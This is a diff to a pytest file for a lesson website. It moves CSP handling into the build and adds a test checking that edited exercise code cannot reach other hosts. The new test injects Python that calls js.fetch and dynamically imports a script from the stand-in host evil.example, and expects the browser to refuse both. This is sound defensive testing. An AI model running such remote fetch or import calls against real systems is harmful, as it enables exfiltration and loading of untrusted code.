@@ -9,15 +9,12 @@ checks. The page's policy allows only 'wasm-unsafe-eval' beyond 'self', and no r
 
 from __future__ import annotations
 
-import base64
-import hashlib
 import sys
 from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
 
-from lessonkit.checks.htmlscan import Doc
 from lessonkit.source import pyodide
 
 sys.path.insert(0, str(Path(__file__).parent))
@@ -28,22 +25,6 @@ from test_exercise_runner import EXERCISES, FIXES, MINI, STAGES, one_function_fi
 
 ROOT = Path(__file__).resolve().parents[2]
 LESSON = "lessons/14-mini-autograd/"
-
-
-def policy(html: str) -> str:
-    """The policy a CSP step would give the page: the site itself, Material's inline scripts by hash,
-    and 'wasm-unsafe-eval', which the exercise blocks ask for (`data-lk-csp`); nothing else."""
-    hashes = sorted(
-        {
-            "'sha256-" + base64.b64encode(hashlib.sha256(html[a:b].encode()).digest()).decode() + "'"
-            for name, a, b in Doc(html).raw
-            if name == "script" and html[a:b].strip()
-        }
-    )
-    return (
-        f"default-src 'self'; script-src 'self' {' '.join(hashes)} 'wasm-unsafe-eval'; "
-        "style-src 'self' 'unsafe-inline'; img-src 'self' data:; font-src 'self' data:"
-    )
 
 
 def test_only_the_pages_with_an_exercise_name_its_block_and_the_runtime_size_is_measured(built_site):
@@ -57,8 +38,9 @@ def test_only_the_pages_with_an_exercise_name_its_block_and_the_runtime_size_is_
 
 
 class Reader:
-    """Lesson 14 under a policy that allows only 'wasm-unsafe-eval' beyond the site itself, every
-    request counted, any other host refused (by routing and by the resolver)."""
+    """Lesson 14 under the policy the build wrote (the site itself, Material's inline scripts by hash,
+    'wasm-unsafe-eval' and blob: workers, which the exercise blocks ask for), every request counted,
+    any other host refused (by routing and by the resolver)."""
 
     def __init__(self, playwright_browser, url: str, page: str = LESSON):
         self.external, self.local, self.errors = [], [], []
@@ -70,13 +52,6 @@ class Reader:
                 self.external.append(r.request.url)
                 return r.abort()
             self.local.append(r.request.url)
-            if r.request.resource_type == "document":  # the page as served, with the policy CSP helpers add
-                resp = r.fetch()
-                html = resp.text()
-                body = html.replace(
-                    "<head>", f'<head><meta http-equiv="Content-Security-Policy" content="{policy(html)}">', 1
-                )
-                return r.fulfill(response=resp, body=body)
             return r.continue_()
 
         self.context.route("**/*", route)
@@ -259,3 +234,25 @@ def test_stop_ends_a_run_that_does_not_end_and_the_next_run_starts_afresh(reader
     outcomes = reader.run(5, None)
     assert set(outcomes.values()) == {"failed", "skipped"}
     assert reader.external == [] and reader.errors == []
+
+
+def test_code_in_the_editor_reaches_no_other_host(browser, server):
+    """The checks run the reader's edit (and a contribution's stage file): Python that can call
+    JavaScript. Its worker inherits the page's policy, so a fetch or an import of another host is
+    refused by the browser before any request leaves (routing here would only count and abort it)."""
+    r = Reader(browser, server)
+    said: list[str] = []
+    r.page.on("worker", lambda w: w.on("console", lambda m: said.append(m.text)))
+    try:
+        hostile = (
+            (EXERCISES / "stage_1.py").read_text(encoding="utf-8")
+            + "\nimport js\n"
+            + "js.fetch('http://evil.example/fetched')\n"
+            + "js.eval(\"import('http://evil.example/imported.js')\")\n"
+        )
+        r.run(1, hostile)
+        r.page.wait_for_timeout(2000)
+        assert any("Failed to fetch" in m for m in said), said  # the fetch was made, and refused
+        assert r.external == []  # and no request left for another host
+    finally:
+        r.context.close()
